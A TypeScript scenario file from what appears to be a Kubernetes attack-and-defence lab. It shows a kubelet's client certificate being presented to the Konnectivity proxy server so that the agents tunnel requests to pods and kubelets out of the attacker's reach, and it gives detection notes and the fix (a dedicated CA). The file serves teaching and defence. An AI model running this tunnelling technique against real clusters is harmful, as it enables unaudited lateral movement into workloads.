import { dialThrough } from '../../apiserver/connect-egress';
import { hostThrough } from '../../apiserver/egress';
import { createAuthority } from '../../pki/authority';
import { addresses, podCidrs, ports, webPodAddress } from '../addresses';
import { randomCanaries } from '../canaries';
import { defenceSettings } from '../defences';
import { nodeAddress, nodeNames } from '../lab-pki';
import { curl } from './curl';
import type { Scenario } from './scenario';

export const konnectivityFrontDoor: Scenario = {
  id: 'konnectivity-front-door',
  title: 'a node’s certificate at the door that is meant for the apiserver',
  story:
    'The proxy server of Konnectivity asks who comes for a tunnel for a client certificate, and takes any that its --server-ca-cert vouches for: the name in it is not looked at. With one authority for the whole cluster, as kubeadm sets it up, every kubelet has such a certificate, and so has everybody whose request for one was ever approved. Whoever holds one has the agents dial whatever they reach: pods, nodes, what listens there and asks nobody’s name, and the apiserver’s own audit log knows nothing of it.',
  needs:
    'Any client certificate of the CA that the proxy server trusts, and a way to its port for the apiserver.',
  evidence:
    'The answer of a server in the cluster, with a planted random word, that came back through CONNECT; the other twin is hung up on.',
  attack: ['T1078'],
  setting: {
    name: 'proxy-server --server-ca-cert',
    open: '/etc/kubernetes/pki/ca.crt',
    fixed: 'an authority that signs for the apiserver’s egress and nothing else',
  },
  notice:
    'In the proxy server’s log a commonName that is not the apiserver’s, at every CONNECT; connections to its port 8090 from another address than the apiserver’s. Nothing in any audit log. A firewall before that port, or a Unix socket in its place, leaves nobody else to ask.',
  sources: [
    'kubernetes-sigs/apiserver-network-proxy, cmd/server/app/server.go (getTLSConfig)',
    'kubernetes-sigs/apiserver-network-proxy, pkg/server/tunnel.go',
    'k8s.io/apiserver pkg/server/egressselector/egress_selector.go',
  ],
  async play(stage, twin) {
    const settings = defenceSettings('konnectivity');
    const own = await createAuthority({ commonName: 'LAB konnectivity' });
    const cluster = await stage.cluster({
      ...settings,
      ...(twin === 'open' ? {} : { konnectivityFrontendCa: own }),
    });
    const { attackerHost, pki, container } = cluster;
    const { signal } = stage;
    const { down: word } = randomCanaries();
    container({ namespace: 'default', pod: 'web', container: 'web' }).plant(word);
    // A machine in the control plane's network, from which no route leads to the pods.
    for (const name of nodeNames) {
      attackerHost.routes.delete({ to: podCidrs[name], via: nodeAddress[name] });
    }

    const page = `http://${webPodAddress}:${ports.web}/canary`;
    const direct = await curl(attackerHost, page, { signal });
    await stage.did('attacker', `curl ${page}`, direct.words);

    const proxy = {
      host: addresses.konnectivityServer,
      port: ports.konnectivityServer,
      bundlePem: pki.caPem,
      clientCertificate: pki.kubeletClients['node-2'],
    };
    const tunnelled = hostThrough(attackerHost, {
      dial: (to, options) => dialThrough(attackerHost, proxy, to, options),
      close: async () => undefined,
    });
    const door = `--proxy https://${proxy.host}:${proxy.port} --proxy-cert kubelet-client-of-node-2.crt`;
    const got = await curl(tunnelled, page, { signal });
    const ask = `curl ${door} --proxytunnel ${page}`;
    if (got.body.includes(word))
      await stage.gained('attacker', ask, got.body.trim(), 'a page of a pod, by way of the agents');
    else await stage.refused('attacker', ask, got.words);

    const kubelet = `https://${addresses.node1}:${ports.kubelet}/healthz`;
    const health = await curl(tunnelled, kubelet, { signal });
    const knock = `curl -k ${door} --proxytunnel ${kubelet}`;
    if (health.status === 0) await stage.refused('attacker', knock, health.words);
    else await stage.did('attacker', knock, `${health.words}, from the kubelet itself`);
  },
};
